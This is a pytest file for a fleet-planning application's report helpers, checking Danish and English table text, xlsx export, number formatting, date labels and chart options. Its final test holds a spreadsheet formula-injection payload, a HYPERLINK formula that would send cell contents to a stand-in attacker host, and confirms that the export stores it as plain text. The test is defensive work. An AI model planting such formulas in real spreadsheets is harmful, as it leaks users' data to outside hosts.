"""The Plan og rapporter page's pure helpers: table text, xlsx rows, the whole
workbook, vehicle labels, periods and chart options (no browser needed)."""

from __future__ import annotations

import io
from datetime import date, datetime

from openpyxl import load_workbook

from fleetplan.domain import Fuel, Period, Vehicle, VehicleType
from fleetplan.web.reports_charts import grouped_options, number_formatter
from fleetplan.web.reports_tables import (
    CHARGERS,
    PLAN,
    Column,
    Table,
    day_label,
    display_rows,
    headers,
    period_days,
    with_vehicle_labels,
    workbook,
    xlsx_rows,
)
from fleetplan.web.translate import translate

STEP = {
    "year": 2027,
    "vehicle_id": "7",
    "location": "Rådhuset",
    "fuel": "diesel",
    "lease_end": "2027-04-30",
    "needed_range_km": 87.46,
    "action": "replace",
    "replacement_name": "Renault 5",
}
CAR = Vehicle(
    "7", VehicleType.ICE, Fuel.DIESEL, plate="AB12345", make="VW", model="Caddy"
)


def test_plan_rows_on_screen_and_in_xlsx() -> None:
    """Screen: translated fuel and action, 87 km rounded; xlsx keeps 87.46 as a
    number, the translated words, and "" for a missing vehicle's plate."""
    (known,) = with_vehicle_labels([STEP], {"7": CAR})
    (unknown,) = with_vehicle_labels([{**STEP, "vehicle_id": "9"}], {"7": CAR})
    assert (known["plate"], known["model"]) == ("AB12345", "VW Caddy")
    table = Table("plan", PLAN, (known, unknown))
    shown = display_rows(table, "da")[0]
    assert (shown["fuel"], shown["action"]) == ("Diesel", "Udskiftes")
    assert shown["needed_range_km"] == "87"
    assert display_rows(table, "da")[1]["plate"] == translate("da", "common.none")
    row = xlsx_rows(table, "en")[0]
    assert row[headers(table, "en").index("Plate")] == "AB12345"
    names = headers(table, "en")
    assert row[names.index("Range needed (km)")] == 87.46
    assert row[names.index("Action")] == translate("en", "rep.action.replace")
    assert xlsx_rows(table, "en")[1][2] == ""


def test_numbers_use_the_languages_separators() -> None:
    """12,345.6 kWh: Danish "12.346", English "12,346" (no decimals)."""
    table = Table("t", (Column("kwh", 0), Column("share", share=True)), ())
    record = {"kwh": 12_345.6, "share": 0.625}
    table = Table("t", table.columns, (record,))
    assert display_rows(table, "da") == [
        {"_key": "0", "kwh": "12.346", "share": "62,5 %"}
    ]
    assert display_rows(table, "en")[0]["kwh"] == "12,346"


def test_whole_report_has_a_sheet_per_table() -> None:
    row = {"location": "L", "evs": 3, "charge_points": 2, "today_points": 1}
    row |= {"new_points": 1, "overnight_points": 2, "daytime_points": 0}
    row |= {"charger_kw": 11.0, "total_kw": 22.0}
    tables = [Table("plan", PLAN, (STEP,)), Table("chargers", CHARGERS, (row,))]
    book = load_workbook(io.BytesIO(workbook(tables, "da")))
    assert book.sheetnames == ["Udskiftningsplan", "Ladepunkter pr. lokation"]
    sheet = book["Ladepunkter pr. lokation"]
    head = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=head.index("Nye ladepunkter") + 1).value == 1
    assert sheet.cell(row=2, column=head.index("kW i alt") + 1).value == 22


def test_period_days_and_labels() -> None:
    """[1 May, 1 Nov) covers 1 May to 31 Oct."""
    period = Period(datetime(2026, 5, 1), datetime(2026, 11, 1))
    assert period_days(period) == (date(2026, 5, 1), date(2026, 10, 31))
    assert day_label(date(2026, 10, 31), "da") == "31.10.2026"
    assert day_label(date(2026, 5, 1), "en") == "1 May 2026"


def test_chart_numbers_and_horizontal_bars() -> None:
    """Danish axis labels via toLocaleString('da-DK'); horizontal bars swap the
    axes and keep the first category at the top."""
    assert "'da-DK'" in number_formatter("da")
    assert "'en-GB'" in number_formatter("en", 0)
    options = grouped_options(["A", "B"], {"km": [1.0, 2.0]}, "km", horizontal=True)
    assert options["yAxis"]["type"] == "category"
    assert options["yAxis"]["data"] == ["A", "B"]
    assert options["yAxis"]["inverse"] is True
    assert options["xAxis"]["name"] == "km"
    assert options["series"][0]["data"] == [1.0, 2.0]


def test_report_workbook_writes_user_text_as_text() -> None:
    """A vehicle model written like a formula stays text in the report's xlsx."""
    payload = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    table = Table("plan", PLAN, ({**STEP, "model": payload},))
    book = load_workbook(io.BytesIO(workbook([table], "en")), data_only=True)
    sheet = book.worksheets[0]
    head = [c.value for c in sheet[1]]
    column = head.index(translate("en", "rep.col.plan.model")) + 1
    cell = sheet.cell(row=2, column=column)
    assert (cell.value, cell.data_type) == (payload, "s")
